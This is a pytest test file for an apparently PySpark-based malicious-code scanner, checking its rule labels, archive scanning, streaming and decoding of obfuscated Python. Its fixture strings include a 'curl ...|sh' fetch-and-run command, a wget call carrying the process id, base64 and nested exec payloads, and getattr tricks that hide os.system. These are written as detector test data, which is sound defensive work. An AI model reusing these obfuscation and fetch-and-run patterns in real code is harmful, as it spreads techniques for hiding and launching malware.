"""Analysis, rules, archives and the landing-folder stream on small sources."""

import base64
import io
import tarfile
import zipfile

import pytest
from pyspark.sql import functions as F

from larkspur.functions import text as T
from larkspur.operators import rules as R
from larkspur.operators.analysis import facts
from larkspur.sources.scan import exclusions, scan
from larkspur.streaming.monitor import watch

NAMES = {code: name for name, code in R.CODE.items()}
CASES = [
    ("import sys\nsys.modules['os'].system('echo hi')\n", {("ObfuscatedShellExec", "os.system", 5)}),
    ("import os\ndef f(c):\n    os.system(c)\n", {("ShellExec", "os.system", 3)}),
    ("import sys, subprocess\nsubprocess.Popen([sys.executable, '-c', 'x'])\n", {("CodeExec", "subprocess.Popen", 4)}),
    ("def pick(m, a):\n    import importlib\n    return getattr(importlib.import_module(m), a)\npick('os', 'get' + 'login')()\n", {("OSFingerprint", "os.getlogin", 3)}),
    ("from pathlib import Path\np = Path('bad.exe')\np.write_text('x')\n", {("SuspiciousWrite", "bad.exe", 4)}),
    ("import os\nos.system('wget http://4?' + str(os.getpid()))\n", {("DangerousExec", "os.system", 4)}),
    ("print 'old'\nimport marshal\n", {("MarshalImport", "marshal", 2)}),
    ("x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='\n", {("ShellExec", "os.system", 3)}),
    ("import ctypes\ndef (:\n", {("CtypesImport", "ctypes", 2)}),
    ("", set()),
    (None, set()),
]


@pytest.fixture(scope="module")
def found(spark):
    rows = [(str(i), "a.py", text) for i, (text, _) in enumerate(CASES)]
    out = R.audit(spark.createDataFrame(rows, "file_id string, file_path string, content string")).collect()
    return {i: {(NAMES[r.rule], r.label, r.confidence) for r in out if r.file_id == str(i)} for i in range(len(CASES))}


@pytest.mark.parametrize("i", range(len(CASES)))
def test_cases(found, i):
    assert found[i] == CASES[i][1]


def test_spans_are_bytes():
    source = "s = 'é'; eval(s)\n"
    fact = next(f for f in facts(source, "a.py") if f["kind"] == "exec")
    assert source.encode()[fact["start"] : fact["end"]] == b"eval(s)"


def test_deep_and_long_sources_do_not_fail():
    assert facts("x = " + "(" * 3000 + ")" * 3000, "a.py") is not None
    assert facts("x = " + "+".join(["1"] * 5000), "a.py") is not None


def _archives(path):
    (path / "plain.py").write_text("eval('1')\n")
    (path / "skip.py").write_text("eval('1')\n")
    (path / "broken.zip").write_bytes(b"no archive")
    (path / "note.txt").write_text("eval('1')\n")
    with zipfile.ZipFile(path / "a.zip", "w") as z:
        z.writestr("in/zip.py", "import pickle\n")
        z.writestr("in/data.bin", "x")
    with tarfile.open(path / "b.tar.gz", "w:gz") as t:
        info = tarfile.TarInfo("in/tar.py")
        info.size = 14
        t.addfile(info, io.BytesIO(b"import marshal"))


def test_scan(spark, tmp_path):
    _archives(tmp_path)
    rows = scan(spark, str(tmp_path), exclusions("skip.py  # known\n\n# none\n")).collect()
    assert {r.file_path.rsplit("/", 1)[-1] for r in rows if r.error is None} == {"plain.py", "zip.py", "tar.py"}
    assert [r.archive_path.rsplit("/", 1)[-1] for r in rows if r.error] == ["broken.zip"]
    (tmp_path / "none").mkdir()
    with pytest.raises(ValueError):
        scan(spark, str(tmp_path / "none"))


def test_stream_equals_batch(spark, tmp_path):
    (tmp_path / "in").mkdir()
    _archives(tmp_path / "in")
    watch(spark, str(tmp_path / "in"), str(tmp_path / "out"), str(tmp_path / "state"), least=1, once=True).awaitTermination(120)
    streamed = spark.read.parquet(str(tmp_path / "out")).select("file_id", "rule", "label").collect()
    batch = R.audit(scan(spark, str(tmp_path / "in"))).select("file_id", "rule", "label").collect()
    assert sorted(map(tuple, streamed)) == sorted(map(tuple, batch)) and batch


def test_entropy(spark):
    rows = spark.createDataFrame([("",), ("aaaa",), ("abab",), ("abcd",)], "t string").select(T.entropy(F.col("t"))).collect()
    assert [round(r[0], 9) for r in rows] == [0, 0, 1, 2]


def _named(source):
    return [(f["kind"], f["name"]) for f in facts(source, "a.py")]


@pytest.mark.parametrize(
    "many",
    [
        "".join(f"print 'a', {i}\n" for i in range(200)),
        "def f():\n" + "    print >>sys.stderr, 'a'\n" * 200 + "    eval(y)\n",
        "try:\n    g()\nexcept E, e:\n    print e\n" * 200,
        "".join(f"x{i} = = 3\n" for i in range(200)),
        "class A:\n" + "".join(f"    def f{i}(self):\n        y = ` 3\n        eval(y)\n" for i in range(200)),
        "x = [\n" + "y = = 3\n" * 200,
        "if x = 1:\n    a ? b\nelse:\n    print '''a\nb = =\n'''\n" * 200,
    ],
)
def test_any_number_of_bad_lines(many):
    found = _named(many + "import os\nos.system('ls')\n")
    assert ("import", "os") in found and ("exec", "os.system") in found and not any(k == "error" for k, _ in found)
    assert found.count(("exec", "eval")) == many.count("eval(y)")


def test_what_does_not_parse_is_told():
    assert ("error", "not parsed") in _named("x = " + "(" * 3000 + ")" * 3000)


def test_long_nested_texts_are_read_whole():
    payload = "# padded " + "x" * (1 << 20) + "\n" + "import os\nos.system('ls')\n"
    coded = base64.b64encode(payload.encode()).decode()
    assert len(payload) > 1 << 20
    assert ("exec", "os.system") in _named(f"import base64\nexec(base64.b64decode('{coded}'))\n")
    assert ("exec", "os.system") in _named(f"exec(bytes.fromhex('{payload.encode().hex()}'))\n")


def test_nesting_that_is_not_followed_is_told():
    source = "eval(x)\n"
    for _ in range(12):
        source = f"import base64\nexec(base64.b64decode('{base64.b64encode(source.encode()).decode()}'))\n"
    assert ("error", "nested too deep") in _named(source)


_PICK = "def pick(m, a):\n    import importlib\n    return getattr(importlib.import_module(m), a)\n"


@pytest.mark.parametrize("calls", ["help(1)\n" * 2000, "".join(f"help({i})\n" for i in range(2000)), "".join(f"help(help({i}))\n" for i in range(1000))])
def test_calls_after_many_others_are_evaluated(calls):
    found = _named(f"def help(x):\n    return x\n{_PICK}{calls}pick('os', 'get' + 'login')()\n")
    assert ("call", "os.getlogin") in found and not any(k == "error" for k, _ in found)


def test_equal_calls_see_what_names_mean_by_then():
    found = _named("m = 'os'\ndef at(a):\n    return getattr(__import__(m), a)\nat('system')('ls')\nm = 'subprocess'\nat('system')('ls')\nat('Popen')('ls')\n")
    assert [n for k, n in found if k == "exec"] == ["os.system", "subprocess.Popen"]


def test_a_budget_that_is_hit_is_told(monkeypatch):
    monkeypatch.setattr("larkspur.operators.analysis.MAX_INLINED", 10)
    assert ("error", "calls not evaluated") in _named("def help(x):\n    return x\n" + "".join(f"help({i})\n" for i in range(20)))


def test_long_comprehensions_are_folded():
    payload = "#" + "x" * 70_000 + "\nimport os\nos.system('ls')\n"
    source = f"exec(''.join([chr(c) for c in {[ord(c) for c in payload]}]))\n"
    assert ("exec", "os.system") in _named(source)


MORE = [
    ("import os\nos.system(['sh', '-c', 'curl http://a.b/x|sh'])\n", [("DangerousExec", "os.system", 4)]),
    ("import os\nos.system(['echo', 'curl'])\n", [("ShellExec", "os.system", 3)]),
    ("f = eval('os.system')\nf('ls')\n", [("CodeExec", "eval", 3), ("ObfuscatedShellExec", "os.system", 5)]),
    ("import os\nos.__dict__['system']('curl http://a.b')\n", [("DangerousExec", "os.system", 4)]),
    ("from a import __pyarmor__\nx(b'PY\\x')\nimport marshal\n", [("SuspiciousVariable", "__pyarmor__", 5), ("MarshalImport", "marshal", 2)]),
    ("import base64\nexec(''.join([b for a in [c for c in base64.b64decode('aGk7').decode()] for b in q if a == b]))\n", [("Base64String", "\\x68\\x69\\x3b", 3), ("ObfuscatedCodeExec", "exec", 5)]),
    ("import base64\nx = base64.b64decode('cHJpbnQoMSk7cHJpbnQoMik7')\n", [("Base64String", "\\x70\\x72...\\x29\\x3b", 3)]),
]


def test_commands_escapes_and_bound_names(spark):
    rows = [(str(i), "a.py", text) for i, (text, _) in enumerate(MORE)]
    out = R.audit(spark.createDataFrame(rows, "file_id string, file_path string, content string")).collect()
    for i, (text, want) in enumerate(MORE):
        assert [(NAMES[r.rule], r.label, r.confidence) for r in sorted(out, key=lambda r: r.ord) if r.file_id == str(i)] == want, text
